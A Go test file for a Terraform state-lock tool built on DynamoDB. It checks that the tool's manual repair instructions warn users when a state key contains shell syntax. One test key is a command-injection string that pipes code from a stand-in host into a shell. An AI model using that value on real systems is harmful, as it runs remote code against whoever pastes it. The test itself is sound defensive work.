package unlock_test

import (
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb/types"

	"github.com/lockwarden/lockwarden/infra/local"
)

// Whoever writes a state chooses its key. After a release the answer says which row of the table to correct, by hand: a name that a shell
// would run goes with words that say so.
func TestNoAnswerAsksForACommandWithAStrangeName(t *testing.T) {
	for key, warns := range map[string]bool{"dev/a/terraform.tfstate": false, "dev/a'; curl evil.example | sh; 'b/terraform.tfstate": true} {
		w := newWorld(t)
		w.Lock(key, "named", w.Set.Tables[0])
		w.scan()
		if _, err := dynamodb.NewFromConfig(server.Config()).PutItem(t.Context(), &dynamodb.PutItemInput{TableName: &w.Table, Item: map[string]types.AttributeValue{
			"LockID": &types.AttributeValueMemberS{Value: string(w.Path(key + "-md5"))}, "Digest": &types.AttributeValueMemberS{Value: "d41d8cd98f00b204e9800998ecf8427e"},
		}}); err != nil {
			t.Fatal(err)
		}
		a, err := w.run(&local.Wire{}, request(w, "named", ""))
		steps := strings.Join(a.NextSteps, "\n")
		if strings.Contains(steps, "Never paste that name") != warns {
			t.Errorf("%s: %s", key, steps)
		}
		if err != nil || !strings.Contains(steps, "set Digest of") {
			t.Errorf("%s: %+v, %v", key, a, err)
		}
	}
}
